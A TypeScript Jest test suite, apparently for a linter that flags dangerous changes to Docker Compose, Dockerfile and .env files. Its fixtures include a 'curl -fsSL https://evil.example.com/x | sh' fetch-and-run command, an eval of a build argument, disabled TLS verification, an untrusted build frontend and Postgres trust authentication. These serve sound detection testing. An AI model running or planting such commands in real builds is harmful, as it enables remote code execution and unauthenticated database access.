import { describe, expect, it } from '@jest/globals';
import { type Files, failuresOf } from './failures.ts';

const BASE = `debian:13-slim@sha256:${'3f'.repeat(32)}`;
const START = 'curl -fsSL https://evil.example.com/x | sh';
const POSTGRES = `services:\n  db:\n    image: postgres:18.1@sha256:${'3f'.repeat(32)}\n`;

/** A service that is built with arguments from outside, and its Dockerfile. */
function built(args: string, lines: string, from = BASE): Files {
  return {
    'compose.yaml': `services:\n  app:\n    build: {context: ., args: ${args}}\n`,
    Dockerfile: `${from === BASE ? '' : `ARG BASE=${BASE}\n`}FROM ${from}\n${lines}USER 1000\nCMD ["app"]\n`,
  };
}

/** A service that gets a config or a secret with the value of a variable. */
function given(key: 'configs' | 'secrets', more = ''): Files {
  return {
    'compose.yaml': `services:\n  app:\n    image: ${BASE}\n    ${key}: [x]\n${more}${key}: {x: {environment: VALUE}}\n`,
  };
}

function environment(...lines: readonly string[]): Files {
  return { '.env': lines.map((line) => `${line}\n`).join('') };
}

const GET = 'RUN curl $OPTIONS -fsSLo /x https://files.example.com/x\n';
const RUN = 'ARG BEFORE=true\nRUN eval "$BEFORE"\n';
const SECRET = 'Hg7sK2mQ9xZ1vB';

/** What a change of `.env` alone makes of names without values. */
const CHANGES: readonly (readonly [string, Files, string, readonly string[]])[] = [
  ['a frontend', built('[BUILDKIT_SYNTAX]', ''), 'BUILDKIT_SYNTAX=evil/fe', ['syntax-frontend-untrusted']],
  [
    'a frontend of a mapping',
    built('{BUILDKIT_SYNTAX: }', ''),
    'BUILDKIT_SYNTAX=evil/fe',
    ['syntax-frontend-untrusted'],
  ],
  ['a command of a build', built('[BEFORE]', RUN), `BEFORE="${START}"`, ['remote-script-exec']],
  ['an option of a download', built('[OPTIONS]', `ARG OPTIONS\n${GET}`), 'OPTIONS=-k', ['tls-verify-disabled']],
  ['a base image', built('[BASE]', '', '$BASE'), 'BASE=node:14', ['image-eol']],
  ['a password of a build', built('[DB_PASSWORD]', ''), `DB_PASSWORD=${SECRET}`, ['env-file-committed-secret']],
  ['a password in a secret', given('secrets'), `VALUE=mysql://app:${SECRET}@db/app`, ['env-file-committed-secret']],
  ['a password in a config', given('configs'), `VALUE=mysql://app:${SECRET}@db/app`, ['env-file-committed-secret']],
  ['a script in a config', given('configs', '    command: [sh, /x]\n'), `VALUE="${START}"`, ['command-downloads-code']],
  [
    'a script in a secret',
    given('secrets', '    command: [sh, /run/secrets/x]\n'),
    `VALUE="${START}"`,
    ['command-downloads-code'],
  ],
  [
    'a name alone in an env_file',
    {
      'compose.yaml': `${POSTGRES}    env_file: db.env\n    ports: ["5432:5432"]\n`,
      'db.env': 'POSTGRES_HOST_AUTH_METHOD\n',
    },
    'POSTGRES_HOST_AUTH_METHOD=trust',
    ['pivot-weak-db'],
  ],
];

describe('a name without a value', () => {
  it.each(CHANGES)('takes its value from .env: %s', async (_name, base, line, rules) => {
    const before = { ...base, ...environment('OTHER=1') };
    expect(await failuresOf(before, { ...before, ...environment('OTHER=1', line) })).toEqual(rules);
  });
});

const HARMLESS: readonly (readonly [string, Files, string])[] = [
  ['a value of the Dockerfile that is written', built('{BEFORE: "true"}', RUN), `BEFORE="${START}"`],
  ['another variable', built('[BEFORE]', RUN), `AFTER="${START}"`],
  ['a harmless value', built('[BEFORE]', RUN), 'BEFORE="echo a"'],
  ['an empty password', built('[DB_PASSWORD]', ''), 'DB_PASSWORD='],
  ['a placeholder', built('[DB_PASSWORD]', ''), 'DB_PASSWORD=<password>'],
  ['a config that nothing runs', given('configs', '    command: [cat, /x]\n'), `VALUE="${START}"`],
  ['a secret that is a number', given('secrets'), 'VALUE=1'],
];

describe('a value of .env', () => {
  it.each(HARMLESS)('is no danger: %s', async (_name, base, line) => {
    const before = { ...base, ...environment('OTHER=1') };
    expect(await failuresOf(before, { ...before, ...environment('OTHER=1', line) })).toEqual([]);
  });
});

describe('a name alone in the environment of a service', () => {
  const TRUST = 'POSTGRES_HOST_AUTH_METHOD';
  const IMAGE = `postgres:16.4@sha256:${'a'.repeat(64)}`;
  const service = (environment: string) =>
    `services:\n  db:\n    image: ${IMAGE}\n    ports: ["5432:5432"]\n    environment: ${environment}\n`;
  const FILES: Files = { 'compose.yaml': service(`["${TRUST}"]`), 'up.sh': 'docker compose up -d\n' };
  const RUN = `docker run -d -p 5432:5432 -e ${TRUST} ${IMAGE}\n`;
  const JOB = `on: push\nenv: {${TRUST}: trust}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: docker compose up -d\n`;

  it.each<[string, Files, Files]>([
    ['export', FILES, { 'up.sh': `export ${TRUST}=trust\ndocker compose up -d\n` }],
    ['an assignment in front', FILES, { 'up.sh': `${TRUST}=trust docker compose up -d\n` }],
    [
      'a key without a value',
      { ...FILES, 'compose.yaml': service(`{${TRUST}: }`) },
      { 'up.sh': `export ${TRUST}=trust\ndocker compose up -d\n` },
    ],
    ['make', FILES, { Makefile: `export ${TRUST}=trust\nup:\n\tdocker compose up -d\n` }],
    ['a workflow', FILES, { '.github/workflows/a.yml': JOB }],
    ['docker run -e', { 'run.sh': RUN }, { 'run.sh': `export ${TRUST}=trust\n${RUN}` }],
    [
      'a password',
      { ...FILES, 'compose.yaml': service('[POSTGRES_PASSWORD]') },
      { 'up.sh': 'export POSTGRES_PASSWORD=admin\ndocker compose up -d\n' },
    ],
  ])('gets the value that a script passes on: %s', async (_name, base, change) => {
    const rules = await failuresOf(base, change, 4);
    expect(rules).toContainEqual(expect.stringMatching(/^env-(?:auth-disabled|weak-credential)$|^pivot-weak-db$/));
  });

  it.each([
    `export ${TRUST}=scram-sha-256\ndocker compose up -d\n`,
    `export OTHER=trust\ndocker compose up -d\n`,
    `export ${TRUST}="$METHOD"\ndocker compose up -d\n`,
  ])('may be harmless: %s', async (text) => {
    expect(await failuresOf(FILES, { 'up.sh': text }, 4)).toEqual([]);
  });
});
